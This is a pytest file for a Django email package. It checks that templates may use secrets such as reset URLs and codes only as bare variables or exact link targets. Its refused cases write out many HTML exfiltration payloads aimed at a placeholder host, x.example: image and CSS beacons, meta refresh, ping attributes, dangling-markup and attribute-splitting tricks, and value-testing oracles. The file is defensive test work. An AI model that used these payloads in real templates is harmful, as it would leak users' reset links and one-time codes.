"""Where a template may use a secret (rendering/secret_use.py): only as a bare ``{{ key }}``
in text, or as the whole ``href`` of a link; every way round it is refused."""

from __future__ import annotations

import pytest
from django.core.exceptions import ValidationError

import transactional_mail
from tests.factories import make_layout, make_template
from transactional_mail import delivery
from transactional_mail.models import Email, EmailStatus, EmailTemplate
from transactional_mail.rendering.preview import preview_email
from transactional_mail.rendering.secret_use import (
    secret_use_problems,
    template_secret_keys,
)

KEYS = ("reset_url", "code")


def problems(source: str, *, html: bool = True) -> list[str]:
    return [str(problem) for problem in secret_use_problems(source, KEYS, html=html)]


@pytest.mark.parametrize("source", [
    '<p><a class="button" href="{{ reset_url }}">Reset</a></p>\n<p>{{ reset_url }}</p>',
    "<p>Your code: <b>{{ code }}</b></p>",
    '<A HREF="{{ reset_url }}">Reset</A>',
    '<a href = "{{ reset_url }}" class="button" target="_blank">Reset</a>',
    # Other variables and tags are free where they cannot move the secret's place.
    '{% if user %}<p>Hi {{ user.name|title }}</p>{% endif %}<p>{{ code }}</p>',
    '<img src="{{ logo_url }}" alt="{{ site_name }}"><p>{{ code }}</p>',
    '{% for item in items %}<p>{{ code }}</p>{% endfor %}',
    '<!-- a note --><p>{{ code }}</p>',
    # A secret the template does not use puts no constraint on the rest.
    '<p title="{% if a %}x{% endif %}">{{ other|urlize }}</p>',
    # The verbatim text {{ code }} is not the secret.
    '{% verbatim %}<img src="https://x/?{{ code }}">{% endverbatim %}',
])
def test_allowed_uses(source):
    assert problems(source) == []


@pytest.mark.parametrize(("source", "words"), [
    # Filters, lookups and filter arguments.
    ('<img src="https://x.example/p.gif?u={{ reset_url|urlencode }}">',
     "{{ reset_url|urlencode }}"),
    ("<p>{{ reset_url|safe }}</p>", "{{ reset_url|safe }}"),
    ("<p>{{ code|upper }}</p>", "{{ code|upper }}"),
    ("<p>{{ code.0 }}</p>", "{{ code.0 }}"),
    ("<p>{{ name|default:code }}</p>", "{{ name|default:code }}"),
    # Tags: aliases, loops, oracles.
    ("{% with u=reset_url %}<img src=\"https://x/?{{ u }}\">{% endwith %}", "{% with %}"),
    ("{% for c in code %}<img src=\"https://x/{{ c }}\">{% endfor %}", "{% for %}"),
    ('{% if code == "493817" %}<img src="https://x/hit">{% endif %}', "{% if %}"),
    ("{% if code|first == '4' %}x{% endif %}", "{% if %}"),
    ("{% firstof code %}", "{% firstof %}"),
    ("{% cycle code 'a' %}", "{% cycle %}"),
    ("{% regroup code by x as y %}", "{% regroup %}"),
    ("{% widthratio code 1 1 %}", "{% widthratio %}"),
])
def test_any_reference_but_a_bare_variable_is_refused(source, words):
    found = problems(source)
    assert found and words in found[0] and "Line 1:" in found[0]


@pytest.mark.parametrize(("source", "words"), [
    ('<img src="https://x.example/?{{ reset_url }}">', "inside the tag <img>"),
    ('<img srcset="https://x.example/{{ code }} 1x">', "inside the tag <img>"),
    ('<p style="background:url(https://x.example/{{ code }})">x</p>', "inside the tag <p>"),
    ('<style>p{background:url(https://x.example/{{ code }})}</style>', "inside <style>"),
    ('<form action="https://x.example/"><textarea>{{ code }}</textarea></form>', "<form>"),
    ('<meta http-equiv="refresh" content="0;url=https://x.example/{{ code }}">', "<meta>"),
    ('<link rel="prefetch" href="https://x.example/{{ code }}">', "<link>"),
    ('<a href="https://x.example/?u={{ reset_url }}">x</a>', "not exactly"),
    ('<a href="{{ reset_url }}#{{ code }}">x</a>', "the secret code"),
    ('<a href="{{ reset_url }}x">x</a>', 'write href="{{ reset_url }}"'),
    ("<a href={{ reset_url }}>x</a>", "not exactly"),
    ("<a href='{{ reset_url }}'>x</a>", "not exactly"),
    ('<a href="{{ reset_url }}" ping="https://x.example/">x</a>', "ping"),
    ('<a PING="https://x.example/" HREF="{{ reset_url }}">x</a>', "ping"),
    ('<a href="{{ reset_url }}" title="{{ site_name }}">x</a>', "another template variable"),
    ('<area href="{{ reset_url }}">', "inside the tag <area>"),
    ('<base href="https://x.example/"><a href="{{ code }}">x</a>', "<base>"),
    ('<svg><image href="https://x.example/{{ code }}"/></svg>', "<svg>"),
    ('<noscript><img src="https://x.example/?</noscript>{{ code }}"></noscript>',
     "<noscript>"),
    ('<!-- {{ code }} -->', "comment"),
    # Attribute splitting: a second variable whose value (maybe empty) ends a name or an
    # unquoted value where this reading does not.
    ('<img src{{ empty }}="https://x.example/?a b>{{ code }}">', "{{ empty }} is inside a tag"),
    ('<img src={{ empty }}"https://x.example/?>{{ code }}">', "{{ empty }} is inside a tag"),
    ('<!--{{ empty }}><img src="https://x.example/?-->{{ code }}">', "{{ empty }}"),
    # Template tags inside markup: a branch could open an attribute another closes.
    ('<img src="https://x.example/?{% if a %}">{% endif %}{{ code }}">', "{% if %} is inside"),
    ('{% verbatim %}<img src="{% endverbatim %}{{ code }}{% verbatim %}">{% endverbatim %}',
     "{% endverbatim %} is inside"),
    ('{% filter cut:"Z" %}<img src="https://x.example/?">{% endfilter %}{{ code }}',
     "{% filter %}"),
    # Literals are written unescaped: they could be markup.
    ('{{ "<img src=\'https://x.example/?" }}{{ code }}', "a character of markup"),
    ("{% firstof '<img src=\"https://x.example/?' %}{{ code }}", "a character of markup"),
    ('<p title="{{ bio|urlize }}">{{ code }}</p>', "|urlize makes markup"),
    ('<img src="https://x.example/?{{ code }}', "inside the tag <img>"),
    # A bogus comment ends at its first >, whatever the quotes.
    ('<!x a="><img src="https://x.example/?>{{ code }}">', "inside the tag <img>"),
    ('</ a="><img src="https://x.example/?>{{ code }}">', "inside the tag <img>"),
])
def test_html_uses_that_could_leave_the_email_are_refused(source, words):
    found = problems(source)
    assert any(words in problem for problem in found), found


def test_the_error_names_the_line():
    found = problems('<p>Hello</p>\n\n<img src="https://x.example/?{{ code }}">')
    assert found[0].startswith("Line 3: the secret code")


def test_the_subject_and_text_allow_a_bare_secret_anywhere_and_nothing_else():
    assert problems("Your code is {{ code }} (https://x.example/?{{ code }})", html=False) == []
    assert "{{ code|slugify }}" in problems("{{ code|slugify }}", html=False)[0]
    assert "{% if %}" in problems('{% if code == "1" %}yes{% endif %}', html=False)[0]


def test_the_keys_come_from_the_starter_and_the_triggers(settings):
    assert template_secret_keys("password_reset") == {"reset_url"}
    assert template_secret_keys("no_such_template") == set()
    settings.TRANSACTIONAL_MAIL = {**settings.TRANSACTIONAL_MAIL, "TRIGGERS": {
        "reset": {"model": "testapp.Customer", "on": "updated", "template": "password_reset",
                  "to": "email", "secret_keys": ["code"]}}}
    assert template_secret_keys("password_reset") == {"reset_url", "code"}


@pytest.mark.django_db
def test_saving_a_template_that_leaks_its_starter_secret_is_refused_on_the_field():
    template = EmailTemplate(key="password_reset", subject="Reset {{ reset_url|upper }}",
                             html='<p>Hi</p>\n<img src="https://x.example/?{{ reset_url }}">',
                             category="account")
    with pytest.raises(ValidationError) as caught:
        template.full_clean()
    errors = caught.value.message_dict
    assert errors["html"][0].startswith("Line 2: the secret reset_url")
    assert "{{ reset_url|upper }}" in errors["subject"][0]
    # The same source under a key with no known secret is saved (checked when sent).
    template.key = "reset_copy"
    template.full_clean()


@pytest.mark.django_db
def test_an_email_whose_template_misuses_its_secret_fails_without_being_sent(esp):
    make_template("reset_copy", subject="Reset", category="account", layout=make_layout(),
                  html='<p>Hi</p>\n<a href="https://x.example/?u={{ code }}">x</a>')
    email = transactional_mail.send("reset_copy", "ann@example.com", {"code": "493817"},
                                    secret_keys=["code"])
    assert delivery.deliver(email.pk).status == EmailStatus.FAILED
    row = Email.objects.get(pk=email.pk)
    assert esp.requests == []
    assert "[permanent]" in row.last_error and "Line 2: the secret code" in row.last_error
    assert "493817" not in row.last_error and "493817" not in str(row.context)


@pytest.mark.django_db
def test_an_email_without_secrets_is_not_checked(esp):
    make_template("reset_copy", subject="Reset", category="account", layout=make_layout(),
                  html='<a href="https://x.example/?u={{ code|urlencode }}">x</a>')
    email = transactional_mail.send("reset_copy", "ann@example.com", {"code": "1"})
    assert delivery.deliver(email.pk).status == EmailStatus.SENT


def test_the_preview_shows_the_misuse_as_an_error():
    preview = preview_email("Reset", '<p>x</p>\n<img src="https://x.example/?{{ code }}">', "",
                            None, {"code": "493817"}, secret_keys=["code"])
    assert [(e.code, e.part, e.line) for e in preview.errors] == [("secret", "html", 2)]
    assert preview.html == ""


@pytest.mark.django_db
def test_the_editor_preview_knows_the_secrets_of_the_key_being_typed():
    from tests.test_admin_editor import PREVIEW, fields, staff

    client = staff(perms=("add_emailtemplate",))
    html = '<p>x</p>\n<img src="https://x.example/?{{ reset_url }}">'
    data = client.post(PREVIEW, fields(key="password_reset", html=html)).json()
    assert [(e["code"], e["part"], e["line"]) for e in data["errors"]] == [("secret", "html", 2)]
    assert client.post(PREVIEW, fields(key="reset_copy", html=html)).json()["errors"] == []


def test_a_subject_variant_is_checked_like_the_subject():
    from types import SimpleNamespace

    from transactional_mail.rendering.secret_use import parts_problems

    template = SimpleNamespace(subject="Reset", subject_b="Reset {{ reset_url|upper }}",
                               preheader="", html="<p>x</p>", text="")
    [problem] = parts_problems(template, ["reset_url"])
    assert problem.part == "subject_b" and "reset_url" in str(problem)
